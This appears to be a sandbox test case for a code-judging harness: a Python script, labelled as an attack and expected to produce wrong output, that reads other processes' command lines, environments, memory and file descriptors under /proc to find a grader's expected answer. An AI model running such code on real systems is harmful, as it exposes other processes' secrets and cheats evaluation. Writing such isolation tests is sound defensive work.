# target: stdio
# expect: wrong_output
# attack: read other processes' command lines, environments, memory and open files, looking for expected outputs
import os
w = input().strip()
leaks = []
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for part in ("cmdline", "environ", "maps"):
        try:
            with open(f"/proc/{pid}/{part}", "rb") as handle:
                leaks.append(handle.read())
        except OSError:
            pass
    try:
        with open(f"/proc/{pid}/mem", "rb") as handle:
            handle.seek(0x400000)
            leaks.append(handle.read(1 << 16))
    except (OSError, ValueError, OverflowError):
        pass
    for fd in os.listdir(f"/proc/{pid}/fd") if os.access(f"/proc/{pid}/fd", os.R_OK) else []:
        try:
            leaks.append(os.readlink(f"/proc/{pid}/fd/{fd}").encode())
        except OSError:
            pass
blob = b"".join(leaks)
index = blob.find(b"HELLO-")
print(blob[index:index + 20].decode(errors="ignore") if index >= 0 else "no leak")
